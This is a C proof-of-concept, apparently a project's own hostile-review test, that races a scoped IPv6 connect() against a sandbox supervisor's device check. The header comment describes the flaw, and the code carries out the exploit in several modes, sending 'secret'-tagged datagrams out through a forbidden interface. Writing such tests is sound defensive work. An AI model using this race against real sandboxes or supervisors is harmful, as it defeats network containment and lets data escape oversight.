/* ha17-scoped: hostile review h-attack17 (against main d07b047). The
 * device lock (call.c device_lock) keeps IPv6 disconnects out of an IPv6
 * datagram send's window between the judgement of its socket's device
 * (sv_call_device_last) and the send. A connect is not kept out: a
 * connect() to a scoped IPv6 address (link-local, or link-scope multicast),
 * which a rule naming a link-local address allows, binds the socket to the
 * scope's device itself (__ip6_datagram_connect writes sk_bound_dev_if),
 * and the supervisor performs it on another thread whenever the agent
 * asks. The device judged for the send is then not the one it leaves by:
 * a send to the declared ::ffff:DEST goes out of IFNAME, where IPv4 takes
 * DEST for on-link (review h-attack12) and the host holding it there gets
 * the datagram. The check after the send (sv_call_device_changed) sees the
 * new device and makes it a mechanism failure: after the bytes left.
 * Before the connect, the supervisor's own sv_device_disconnect_before_scoped
 * disconnects a connected datagram socket outside the lock too.
 *
 *   seam   one connect(LL%IFNAME), and 50 ms later (HA17_DELAY_US) one
 *          sendto(::ffff:DEST): with the test build's device_window seam
 *          (300 ms between judging the device and acting, for every call)
 *          the connect lands in the send's window every time.
 *   race   the unmodified build: a second thread connects the socket to
 *          LL%IFNAME and disconnects it (connect(AF_UNSPEC), which waits
 *          for the sends as designed), over and over, while the main
 *          thread sends to ::ffff:DEST N times (HA17_ITER, default
 *          20000), whatever each answers: EPERM is the mechanism failure
 *          of a send whose socket's device changed (out of IFNAME when the
 *          connect came before the send, by the declared route when it
 *          came after: the sinks tell), EACCES a send whose judgement came
 *          after the connect (output-interface). Counted.
 *
 *   undo   (test build, seam; IFNAME without IPv6, so that the scoped
 *          connect fails after writing the device: disable_ipv6 on it, or
 *          a link whose link-local address is still tentative) no send is
 *          judged at all: a thread write()s the socket without pause (not
 *          trapped). Thread C connects it to ::ffff:DEST (allowed, device
 *          none), and 100 ms later thread B to LL%IFNAME: B's judgement
 *          (device none, nothing connected yet: nothing to disconnect
 *          first) comes before C's connect, its act after it. B's connect
 *          binds the socket to IFNAME and fails, so C's peer stays
 *          (__ip6_datagram_connect); until the supervisor's check after B
 *          undoes it (a disconnect), every write() goes to DEST by
 *          IFNAME: the writer changes IP_TOS after each write() (not
 *          trapped), which drops the route the socket cached at C's
 *          connect, so each write() is routed with the device of now.
 *
 *   undorace the release build, no seam: the same three threads, over and
 *          over (HA17_ITER rounds): C's and B's connects started together,
 *          then a disconnect. B's connect is a mechanism failure
 *          (device-binding, EPERM) exactly when C's connect landed between
 *          B's judgement and its act; the writes in the undo window that
 *          follows go by IFNAME.
 *
 *   ha17-scoped MODE DEST:PORT LLADDR:PORT IFNAME   (LLADDR:PORT: fe80::1:9999)
 */
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int sock;
static struct sockaddr_in6 ll = {.sin6_family = AF_INET6};
static volatile int stop, conn_err;
static volatile long connects, conn_fail, writes;

static void *writer(void *arg)
{
	char msg[40];

	int tos = 0;

	snprintf(msg, sizeof(msg), "ha17-secret undo (untrapped write)");
	(void)arg;
	while (!stop) {
		if (write(sock, msg, strlen(msg)) > 0)
			writes++;
		/* A changed IP_TOS drops the socket's cached route (not
		 * trapped): the next write() is routed afresh, with the
		 * socket's device as it is now. */
		tos ^= 4;
		setsockopt(sock, IPPROTO_IP, IP_TOS, &tos, sizeof(tos));
	}
	return NULL;
}

static struct sockaddr_in6 declared;
static volatile int decl_rc = 1, decl_err;

static void *declared_connect(void *arg)
{
	(void)arg;
	decl_rc = connect(sock, (struct sockaddr *)&declared, sizeof(declared));
	decl_err = errno;
	return NULL;
}

static int parse(const char *arg, const char *prefix, struct sockaddr_in6 *sa)
{
	char host[80], *colon;

	snprintf(host, sizeof(host), "%s%s", prefix, arg);
	colon = strrchr(host, ':');
	if (!colon)
		return -1;
	*colon = '\0';
	sa->sin6_family = AF_INET6;
	sa->sin6_port = htons((unsigned short)atoi(colon + 1));
	return inet_pton(AF_INET6, host, &sa->sin6_addr) == 1 ? 0 : -1;
}

static void *connector(void *arg)
{
	struct sockaddr unspec = {.sa_family = AF_UNSPEC};
	int once = arg != NULL;

	do {
		if (connect(sock, (struct sockaddr *)&ll, sizeof(ll)) == 0)
			connects++;
		else {
			conn_fail++;
			conn_err = errno;
		}
		if (once)
			break;
		(void)connect(sock, &unspec, sizeof(unspec));
	} while (!stop);
	return NULL;
}

static int device(void)
{
	int idx = -1;
	socklen_t l = sizeof(idx);

	getsockopt(sock, SOL_SOCKET, SO_BINDTOIFINDEX, &idx, &l);
	return idx;
}

int main(int argc, char **argv)
{
	struct sockaddr_in6 dst, any = {.sin6_family = AF_INET6};
	long iter = getenv("HA17_ITER") ? atol(getenv("HA17_ITER")) : 20000, denied = 0, sent = 0,
	     other = 0, i;
	char msg[64];
	pthread_t t;
	int seam;

	if (argc != 5 || parse(argv[2], "::ffff:", &dst) || parse(argv[3], "", &ll) ||
	    !(ll.sin6_scope_id = if_nametoindex(argv[4]))) {
		fprintf(stderr, "usage: ha17-scoped seam|race DEST:PORT LLADDR:PORT IFNAME\n");
		return 2;
	}
	seam = strcmp(argv[1], "seam") == 0;
	sock = socket(AF_INET6, SOCK_DGRAM, 0);
	/* The socket has its port from the start: no give_port, no failed
	 * bind, no disconnect of the agent's own in the window. */
	if (sock < 0 || bind(sock, (struct sockaddr *)&any, sizeof(any)) != 0) {
		perror("agent: socket");
		return 2;
	}
	if (strcmp(argv[1], "undorace") == 0) {
		struct sockaddr unspec = {.sa_family = AF_UNSPEC};
		long eperm = 0, berr = 0;
		pthread_t w, c;

		declared = dst;
		pthread_create(&w, NULL, writer, NULL);
		for (i = 0; i < iter; i++) {
			pthread_create(&c, NULL, declared_connect, NULL);
			if (connect(sock, (struct sockaddr *)&ll, sizeof(ll)) != 0) {
				if (errno == EPERM)
					eperm++;
				else
					berr++;
			}
			pthread_join(c, NULL);
			(void)connect(sock, &unspec, sizeof(unspec));
		}
		stop = 1;
		pthread_join(w, NULL);
		printf("agent: undorace: %ld rounds, scoped connect EPERM (C inside its window) "
		       "%ld, other "
		       "errors %ld; %ld write()s went out\n",
		       iter, eperm, berr, writes);
		return 0;
	}
	if (strcmp(argv[1], "undo") == 0) {
		pthread_t w, c;

		declared = dst;
		pthread_create(&w, NULL, writer, NULL);
		pthread_create(&c, NULL, declared_connect, NULL);
		usleep(100000);
		connector((void *)1);
		pthread_join(c, NULL);
		usleep(200000);
		stop = 1;
		pthread_join(w, NULL);
		printf("agent: undo: connect to ::ffff:%s: %s; connect to %s%%%s: %s; %ld write()s "
		       "went out; device now %d\n",
		       argv[2], decl_rc == 0 ? "ok" : strerror(decl_err), argv[3], argv[4],
		       connects ? "ok" : strerror(conn_err), writes, device());
		return 0;
	}
	pthread_create(&t, NULL, connector, seam ? (void *)1 : NULL);
	if (seam) {
		usleep(
		    (useconds_t)(getenv("HA17_DELAY_US") ? atoi(getenv("HA17_DELAY_US")) : 50000));
		iter = 1;
	}
	for (i = 0; i < iter; i++) {
		long rc;

		snprintf(msg, sizeof(msg), "ha17-secret %s #%ld", argv[1], i);
		rc = sendto(sock, msg, strlen(msg), 0, (struct sockaddr *)&dst, sizeof(dst));
		if (rc >= 0)
			sent++;
		else if (errno == EACCES)
			denied++;
		else {
			other++;
			if (other <= 3)
				printf("agent: send #%ld to %s: %s (device now %d)\n", i, argv[2],
				       strerror(errno), device());
		}
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("agent: %s: %ld sends answered, %ld denied, %ld other; connects to %s%%%s: %ld "
	       "ok, %ld failed (%s)\n",
	       argv[1], sent, denied, other, argv[3], argv[4], connects, conn_fail,
	       conn_fail ? strerror(conn_err) : "-");
	return 0;
}
